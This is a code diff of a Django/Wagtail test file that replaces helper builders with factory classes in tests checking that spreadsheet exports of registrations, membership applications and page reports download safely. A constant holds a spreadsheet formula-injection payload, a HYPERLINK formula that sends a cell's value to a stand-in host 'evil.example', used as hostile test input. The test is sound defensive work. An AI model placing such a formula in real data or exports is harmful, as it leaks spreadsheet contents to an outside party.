@@ -15,16 +15,16 @@ from openpyxl import load_workbook
 from wagtail.log_actions import log
 from wagtail.models import PageLogEntry
 
+from hub.demo.factories.events import RegistrationFactory
+from hub.demo.factories.pages import InitiativeIndexPageFactory, InitiativePageFactory
 from hub.events.models import Registration
 from hub.network.models import MembershipApplication
 from hub.pages.models import InitiativeFreshness
-from tests.events.builders import register
 from tests.events.registration_support import (  # noqa: F401 - fixtures
     calendar_fixture,
     event_fixture,
     occurrence_fixture,
 )
-from tests.initiatives import build_index, make_initiative
 from tests.module_data import module_data
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Details")'
@@ -69,7 +69,9 @@ def assert_safe(raw: bytes, rows: list[list[str]], *, times: tuple[str, ...]) ->
 @pytest.mark.django_db
 def test_registrations_download_safely(client, occurrence):
     for n, name in enumerate((FORMULA, GERMAN, ARABIC)):
-        register(occurrence, f"p{n}@example.org", name=name, organisation="Café Welcome")
+        RegistrationFactory(
+            occurrence=occurrence, email=f"p{n}@example.org", name=name, organisation="Café Welcome"
+        )
     Registration.objects.update(created_at=WINTER, confirmed_at=SUMMER)
     client.force_login(editor())
     raw, rows = download(client, reverse("events_registration_modeladmin_index"))
@@ -79,7 +81,7 @@ def test_registrations_download_safely(client, occurrence):
 
 @pytest.mark.django_db
 def test_registrations_download_as_xlsx_with_text_cells_and_local_times(client, occurrence):
-    register(occurrence, "p@example.org", name=FORMULA)
+    RegistrationFactory(occurrence=occurrence, email="p@example.org", name=FORMULA)
     Registration.objects.update(created_at=WINTER)
     client.force_login(editor())
     response = client.get(reverse("events_registration_modeladmin_index"), {"export": "xlsx"})
@@ -119,14 +121,14 @@ def test_membership_applications_download_safely(client, tree):
 
 @module_data
 def index(tree):
-    return build_index(tree, translations=())["de"]
+    return InitiativeIndexPageFactory(parent=tree.homes["de"])
 
 
 @pytest.mark.django_db
 def test_outdated_initiatives_report_downloads_safely(client, index):
     for title in (FORMULA, GERMAN, ARABIC):
-        page = make_initiative(
-            index, title, slug=f"i-{len(title)}", contact_email="kontakt@example.org"
+        page = InitiativePageFactory(
+            parent=index, title=title, slug=f"i-{len(title)}", contact_email="kontakt@example.org"
         )
         InitiativeFreshness.objects.create(
             translation_key=page.translation_key,
@@ -143,7 +145,7 @@ def test_outdated_initiatives_report_downloads_safely(client, index):
 def test_wagtails_site_history_report_downloads_safely(client, index):
     user = editor(superuser=True)
     for title in (FORMULA, GERMAN, ARABIC):
-        page = make_initiative(index, title, slug=f"h-{len(title)}")
+        page = InitiativePageFactory(parent=index, title=title, slug=f"h-{len(title)}")
         log(page, "wagtail.edit", user=user)
     PageLogEntry.objects.update(timestamp=SUMMER)
     client.force_login(user)
